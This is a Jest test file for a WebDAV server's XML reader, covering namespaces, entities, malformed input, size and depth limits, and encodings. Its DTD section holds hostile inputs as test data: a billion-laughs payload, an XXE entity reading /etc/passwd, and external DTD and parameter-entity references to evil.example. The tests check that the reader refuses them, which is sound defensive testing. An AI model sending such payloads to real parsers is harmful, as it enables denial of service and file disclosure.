import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { isProtocolError } from '../../src/protocol-error';
import { DEFAULT_XML_LIMITS, parseXml, parseXmlIfPresent, trimXmlSpace } from '../../src/xml/reader';
import { chunks, expectProtocolError, fixture, plain } from './plain';

describe('reading XML into a namespace-resolved tree', () => {
  it('names elements by namespace and local name, whatever the prefix (XML Namespaces; RFC 4918 §8.2)', async () => {
    const a = await parseXml('<D:prop xmlns:D="DAV:"><D:getetag/></D:prop>');
    const b = await parseXml('<prop xmlns="DAV:"><getetag/></prop>');
    const c = await parseXml('<x:prop xmlns:x="DAV:"><getetag xmlns="DAV:"/></x:prop>');
    for (const root of [a, b, c]) expect(plain(root)).toEqual({ name: '{DAV:}prop', children: [{ name: '{DAV:}getetag' }] });
  });

  it('leaves unprefixed names without a default namespace in no namespace', async () => {
    const root = await parseXml('<D:prop xmlns:D="DAV:"><bigbox/></D:prop>');
    expect(root.children[0]?.name).toBe('bigbox');
  });

  it('keeps attributes by Clark name, namespace declarations apart, and the inherited xml:lang', async () => {
    const root = await parseXml(
      '<a xmlns="urn:a" xmlns:b="urn:b" xml:lang="en" id="1" b:x="2"><c xmlns:e="urn:e"><d xml:lang="de"/></c></a>',
    );
    expect(root.attrs).toEqual({ id: '1', '{urn:b}x': '2', '{http://www.w3.org/XML/1998/namespace}lang': 'en' });
    expect(root.namespaces).toEqual({ '': 'urn:a', b: 'urn:b' });
    const c = root.children[0]!;
    expect(c.namespaces).toEqual({ e: 'urn:e' });
    expect({ ...c.scope }).toEqual({ '': 'urn:a', b: 'urn:b', e: 'urn:e' }); // every binding in scope, inherited ones included
    expect(root.scope['e']).toBeUndefined(); // a child's declaration stays the child's
    expect(c.lang).toBe('en');
    expect(c.children[0]?.lang).toBe('de');
  });

  it('keeps mixed content in document order and reads CDATA as text', async () => {
    const root = await parseXml('<p>one<b>two</b>three<![CDATA[<four>]]></p>');
    expect(root.text).toBe('onethree<four>');
    expect(root.content.map((x) => (typeof x === 'string' ? x : x.name))).toEqual(['one', 'b', 'three<four>']);
  });

  it('decodes the predefined entities and character references', async () => {
    const root = await parseXml('<t a="&quot;&#x41;">&lt;&amp;&gt;&#233;</t>');
    expect(root.text).toBe('<&>é');
    expect(root.attrs['a']).toBe('"A');
  });

  it('reads every RFC 6578 request example', async () => {
    for (const name of ['3.8-initial', '3.9-with-token', '3.10-truncation', '3.11-limit', '3.12-unsupported-limit', '3.13-infinite']) {
      const root = await parseXml(fixture(`rfc6578-${name}.xml`));
      expect(root.name).toBe('{DAV:}sync-collection');
    }
  });
});

describe('an empty body', () => {
  it('is a 400 where a body is required', async () => {
    await expectProtocolError(() => parseXml(''), 'bad-request');
    await expectProtocolError(() => parseXml(' \r\n\t'), 'bad-request');
    await expectProtocolError(() => parseXml(chunks('', 4)), 'bad-request');
  });

  it('is undefined where the method gives it a meaning (PROPFIND, RFC 4918 §9.1)', async () => {
    await expect(parseXmlIfPresent('')).resolves.toBeUndefined();
    await expect(parseXmlIfPresent(Buffer.from('\n  \n'))).resolves.toBeUndefined();
    await expect(parseXmlIfPresent('\ufeff')).resolves.toBeUndefined();
  });
});

describe('refusing DTDs and entities (RFC 4918 §20.6: no entity expansion, no external entities)', () => {
  it('refuses the billion laughs', async () => {
    const lol = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<D:propfind xmlns:D="DAV:"><D:prop><x>&lol9;</x></D:prop></D:propfind>`;
    const err = await expectProtocolError(() => parseXml(lol), 'bad-request');
    expect(err.message).toMatch(/DOCTYPE/);
  });

  it('refuses an external entity (XXE)', async () => {
    const xxe = `<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><D:propfind xmlns:D="DAV:"><D:prop><x>&xxe;</x></D:prop></D:propfind>`;
    await expectProtocolError(() => parseXml(xxe), 'bad-request');
    await expectProtocolError(() => parseXml(chunks(xxe, 3)), 'bad-request');
  });

  it('refuses an external DTD and a parameter entity', async () => {
    await expectProtocolError(() => parseXml('<!DOCTYPE a SYSTEM "http://evil.example/x.dtd"><a/>'), 'bad-request');
    await expectProtocolError(() => parseXml('<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]><a/>'), 'bad-request');
    await expectProtocolError(() => parseXml('<!DOCTYPE a><a/>'), 'bad-request');
  });

  it('refuses references to undefined entities', async () => {
    await expectProtocolError(() => parseXml('<a>&nbsp;</a>'), 'bad-request');
  });
});

describe('malformed XML is a 400 with a short reason, never another exception', () => {
  const cases: Array<[string, string]> = [
    ['garbage', 'this is not xml'],
    ['an unclosed element', '<D:prop xmlns:D="DAV:">'],
    ['mismatched tags', '<a><b></a></b>'],
    ['two root elements', '<a/><b/>'],
    ['text after the root', '<a/>trailing'],
    ['an unbound element prefix', '<D:propfind><D:prop/></D:propfind>'],
    ['an unbound attribute prefix', '<a x:y="1"/>'],
    ['a duplicate attribute', '<a b="1" b="2"/>'],
    ['a bad character reference', '<a>&#0;</a>'],
    ['a lone ampersand', '<a>&</a>'],
    ['a truncated document', '<?xml version="1.0"?><D:propfind xmlns:D="DAV:"><D:pr'],
    ['JSON', '{"propfind": true}'],
  ];
  it.each(cases)('refuses %s', async (_, body) => {
    const err = await expectProtocolError(() => parseXml(body), 'bad-request');
    expect(err.message.length).toBeLessThan(240);
  });

  it('never throws anything but a ProtocolError for arbitrary text', async () => {
    const xmlish = fc.string({ unit: fc.constantFrom('<', '>', '/', 'a', 'D', ':', '=', '"', ' ', '&', ';', '!', '?', '[', ']', 'x', '-', '\n') });
    await fc.assert(
      fc.asyncProperty(fc.oneof(fc.string(), xmlish), async (body) => {
        try {
          await parseXml(body);
        } catch (err) {
          expect(isProtocolError(err, 'bad-request')).toBe(true);
        }
      }),
      { numRuns: 500 },
    );
  });

  it('never throws anything but a ProtocolError for arbitrary bytes', async () => {
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ maxLength: 64 }), fc.integer({ min: 1, max: 8 }), async (bytes, size) => {
        try {
          await parseXml(chunks(bytes, size));
        } catch (err) {
          expect(isProtocolError(err, 'bad-request')).toBe(true);
        }
      }),
      { numRuns: 300 },
    );
  });
});

describe('limits', () => {
  it('has conservative defaults', () => {
    expect(DEFAULT_XML_LIMITS).toEqual({ maxBytes: 1024 * 1024, maxDepth: 32, maxElements: 10_000, maxTextLength: 64 * 1024 });
  });

  it('answers a body over maxBytes with payload-too-large', async () => {
    const body = `<a>${'x'.repeat(200)}</a>`;
    await expectProtocolError(() => parseXml(body, { maxBytes: 100 }), 'payload-too-large');
    await expectProtocolError(() => parseXml(Buffer.from(body), { maxBytes: 100 }), 'payload-too-large');
    await expect(parseXml(body, { maxBytes: body.length })).resolves.toBeDefined();
  });

  it('counts bytes, not characters', async () => {
    const body = `<a>${'é'.repeat(60)}</a>`; // 127 bytes, 67 characters
    await expectProtocolError(() => parseXml(body, { maxBytes: 100 }), 'payload-too-large');
  });

  it('stops reading a stream as soon as the size limit is exceeded', async () => {
    let pulled = 0;
    let closed = false;
    async function* endless(): AsyncGenerator<Uint8Array> {
      try {
        yield Buffer.from('<a>');
        for (;;) {
          pulled++;
          yield Buffer.alloc(1024, 0x78);
        }
      } finally {
        closed = true;
      }
    }
    await expectProtocolError(() => parseXml(endless(), { maxBytes: 10 * 1024 }), 'payload-too-large');
    expect(pulled).toBe(10);
    expect(closed).toBe(true);
  });

  it('refuses nesting deeper than maxDepth', async () => {
    const nest = (n: number): string => '<a>'.repeat(n) + '</a>'.repeat(n);
    await expect(parseXml(nest(32))).resolves.toBeDefined();
    await expectProtocolError(() => parseXml(nest(33)), 'bad-request');
    await expectProtocolError(() => parseXml(nest(5), { maxDepth: 4 }), 'bad-request');
  });

  it('refuses deep nesting long before the end of the stream', async () => {
    let pulled = 0;
    async function* deep(): AsyncGenerator<string> {
      for (;;) {
        pulled++;
        yield '<a>';
      }
    }
    await expectProtocolError(() => parseXml(deep()), 'bad-request');
    expect(pulled).toBe(33);
  });

  it('refuses more than maxElements elements', async () => {
    const many = (n: number): string => `<a>${'<b/>'.repeat(n - 1)}</a>`;
    await expect(parseXml(many(10_000))).resolves.toBeDefined();
    await expectProtocolError(() => parseXml(many(10_001)), 'bad-request');
  });

  it('refuses text or an attribute value longer than maxTextLength', async () => {
    await expectProtocolError(() => parseXml(`<a>${'x'.repeat(65)}</a>`, { maxTextLength: 64 }), 'bad-request');
    await expectProtocolError(() => parseXml(`<a>${'x'.repeat(40)}<b/>${'x'.repeat(40)}</a>`, { maxTextLength: 64 }), 'bad-request');
    await expectProtocolError(() => parseXml(`<a v="${'x'.repeat(65)}"/>`, { maxTextLength: 64 }), 'bad-request');
    await expect(parseXml(`<a>${'x'.repeat(64)}</a>`, { maxTextLength: 64 })).resolves.toBeDefined();
  });
});

describe('streaming and encodings', () => {
  const doc = '<?xml version="1.0" encoding="utf-8"?><D:prop xmlns:D="DAV:" xmlns:R="urn:r"><R:name>Zoë – 東京 🗼</R:name></D:prop>';

  it('gives the same tree whatever the chunking, even inside multi-byte characters', async () => {
    const whole = plain(await parseXml(doc));
    for (const size of [1, 2, 3, 5, 7, 64]) expect(plain(await parseXml(chunks(doc, size)))).toEqual(whole);
  });

  it('accepts string chunks', async () => {
    async function* strings(): AsyncGenerator<string> {
      yield '<a>he';
      yield 'llo</a>';
    }
    expect((await parseXml(strings())).text).toBe('hello');
  });

  it('drops a UTF-8 byte-order mark', async () => {
    const root = await parseXml(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('<a/>')]));
    expect(root.name).toBe('a');
  });

  it('reads UTF-16 with a byte-order mark (XML 1.0 §4.3.3)', async () => {
    const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<?xml version="1.0" encoding="UTF-16"?><a>é</a>', 'utf16le')]);
    expect((await parseXml(chunks(le, 1))).text).toBe('é');
  });

  it('refuses invalid UTF-8', async () => {
    await expectProtocolError(() => parseXml(Buffer.from([0x3c, 0x61, 0x3e, 0xc3, 0x28, 0x3c, 0x2f, 0x61, 0x3e])), 'bad-request');
    await expectProtocolError(() => parseXml(Buffer.from([0x3c, 0x61, 0x2f, 0x3e, 0xe2, 0x82])), 'bad-request');
  });

  it('refuses a declared encoding other than UTF-8/UTF-16 in a byte body', async () => {
    await expectProtocolError(() => parseXml(Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?><a/>')), 'bad-request');
    // A string body is already decoded; its declaration no longer describes bytes.
    await expect(parseXml('<?xml version="1.0" encoding="ISO-8859-1"?><a/>')).resolves.toBeDefined();
  });
});

describe('trimXmlSpace', () => {
  it('trims XML white space only, not e.g. a no-break space', () => {
    expect(trimXmlSpace(' \r\n\tx y\t ')).toBe('x y');
    expect(trimXmlSpace('\u00a0x\u00a0')).toBe('\u00a0x\u00a0');
  });
});

describe('parsers reused between bodies', () => {
  it('reads a body right after one that failed half-way, and after one that was empty', async () => {
    await expectProtocolError(() => parseXml('<a><b></a>'), 'bad-request');
    await expect(parseXmlIfPresent('  ')).resolves.toBeUndefined();
    const root = await parseXml('<D:prop xmlns:D="DAV:"><D:getetag/></D:prop>');
    expect(plain(root)).toEqual(plain(await parseXml('<x:prop xmlns:x="DAV:"><x:getetag/></x:prop>')));
    expect(root.children.map((c) => c.name)).toEqual(['{DAV:}getetag']);
  });

  it('gives each of many bodies read at once its own tree', async () => {
    const docs = Array.from({ length: 40 }, (_, i) => `<r:n${i} xmlns:r="urn:${i}"><r:v>${'x'.repeat(i)}</r:v></r:n${i}>`);
    const roots = await Promise.all(docs.map((d) => parseXml(chunks(d, 3))));
    roots.forEach((root, i) => {
      expect(root.name).toBe(`{urn:${i}}n${i}`);
      expect(root.children[0]?.text).toBe('x'.repeat(i));
    });
  });
});
